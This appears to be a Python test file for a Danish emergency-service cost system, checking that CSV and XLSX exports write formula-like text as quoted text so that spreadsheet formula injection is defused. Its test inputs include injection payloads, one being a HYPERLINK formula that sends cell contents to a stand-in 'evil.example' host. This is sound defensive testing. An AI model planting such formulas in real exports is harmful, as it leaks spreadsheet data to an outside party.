"""Spreadsheet exports never hand Excel a formula (OWASP CSV injection): text that starts with
= + - @ tab or CR is written as text, in CSV with a leading single quote, in XLSX as a
quote-prefixed text cell; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from beredskab.costs.export import to_csv, to_xlsx
from beredskab.costs.report import Party, Report
from beredskab.costs.report_lines import ReportLine
from tests.factories import bearer
from tests.scenario import open_world

FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Klik")', "+1", "-2+3", "@SUM(A1:A9)"]
FORMULAS += ["\tx", "\rx"]


def _rows(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


async def test_the_log_export_writes_formulas_as_text(db):
    async with await open_world(db) as world:
        act = await world.staffed_activation()
        url = f"/activations/{act['id']}/log"
        for text in FORMULAS:
            body = {"kind": "note", "text": text, "source": {"who": text}, "tags": ["@tag"]}
            r = await world.client.post(url, json=body, headers=bearer(world.tokens["log0"]))
            assert r.status_code == 201, r.text
        r = await world.client.get(
            url, params={"format": "csv"}, headers=bearer(world.tokens["admin"])
        )
        rows = _rows(r.content)[-len(FORMULAS) :]
        assert [row["text"] for row in rows] == ["'" + text for text in FORMULAS]
        assert [row["source"] for row in rows] == ["'" + text for text in FORMULAS]
        assert {row["tags"] for row in rows} == {"'@tag"}
        assert all(row["seq"].isdigit() for row in rows)  # numbers are numbers


def _report() -> Report:
    line = ReportLine(
        activation_id="a1",
        ref="-K-2026-0001",
        title="@SUM(A1)",
        status="final",
        category="adjustment",
        in_hours=None,
        rate_ore_per_hour=None,
        debtor_id="odder",
        creditor_id="ddh",
        agent_micros=0,
        amount_ore=-1250,  # a credit: a negative amount
        text=FORMULAS[0],
    )
    party = Party(org_id="odder", name="+45 Kommune", cvr=None, ean=None, lines=[line])
    return Report(
        start=date(2026, 1, 1),
        end=date(2026, 2, 1),
        ddh_id="ddh",
        invoices=[party],
        reimbursements=[],
        ddh_share=Party(org_id="ddh", name="DDH", cvr=None, ean=None),
    )


def test_the_finance_csv_writes_formulas_as_text_and_amounts_as_numbers():
    (line, total) = [r for r in _rows(to_csv(_report())) if r["Visning"] == "Faktura"]
    assert (line["Navn"], line["Aktivering"], line["Titel"], line["Tekst"]) == (
        "'+45 Kommune",
        "'-K-2026-0001",
        "'@SUM(A1)",
        "'" + FORMULAS[0],
    )
    # an amount is a number the service wrote, never text from outside: a minus stays a minus
    assert (line["Beløb (øre)"], line["Beløb (kr.)"]) == ("-1250", "-12,50")
    assert (total["Beløb (øre)"], total["Beløb (kr.)"]) == ("-1250", "-12,50")


def test_the_finance_xlsx_writes_formulas_as_quoted_text_and_amounts_as_numbers():
    book = load_workbook(io.BytesIO(to_xlsx(_report())))
    invoices, lines = book["Faktura"], book["Linjer"]
    name = invoices.cell(2, 2)
    assert (name.value, name.data_type, name.quotePrefix) == ("+45 Kommune", "s", True)
    assert (invoices.cell(2, 6).value, invoices.cell(2, 7).value) == (-1250, -12.5)
    header = [c.value for c in lines[1]]
    row = {h: lines.cell(2, i + 1) for i, h in enumerate(header)}
    for column, text in (
        ("Aktivering", "-K-2026-0001"),
        ("Titel", "@SUM(A1)"),
        ("Tekst", FORMULAS[0]),
    ):
        assert (row[column].value, row[column].data_type, row[column].quotePrefix) == (
            text,
            "s",
            True,
        )
    assert row["Part"].quotePrefix is False  # plain text is left as it is
    assert (row["Beløb (øre)"].value, row["Beløb (kr.)"].value) == (-1250, -12.5)


@pytest.mark.parametrize("text", ["https://evil.example/login", "mailto:a@b.dk"])
def test_the_finance_xlsx_writes_links_as_text(text):
    report = _report()
    report.invoices[0].lines[0].text = text
    lines = load_workbook(io.BytesIO(to_xlsx(report)))["Linjer"]
    cell = lines.cell(2, 17)
    assert (cell.value, cell.hyperlink) == (text, None)


@pytest.mark.parametrize(("zone", "local"), [("Europe/Copenhagen", "12:00"), ("UTC", "10:00")])
async def test_the_log_export_names_the_time_zone_of_its_times(db, zone, local):
    async with await open_world(db, {"timezone": zone}) as world:
        act = await world.staffed_activation()
        url = f"/activations/{act['id']}/log"
        body = {"kind": "note", "text": "Sommertid", "occurred_at": "2026-07-01T10:00:00Z"}
        r = await world.client.post(url, json=body, headers=bearer(world.tokens["log0"]))
        assert r.status_code == 201, r.text
        r = await world.client.get(
            url, params={"format": "csv"}, headers=bearer(world.tokens["admin"])
        )
        row = _rows(r.content)[-1]
        assert row[f"occurred_at ({zone})"] == f"2026-07-01 {local}:00"
        assert f"recorded_at ({zone})" in row
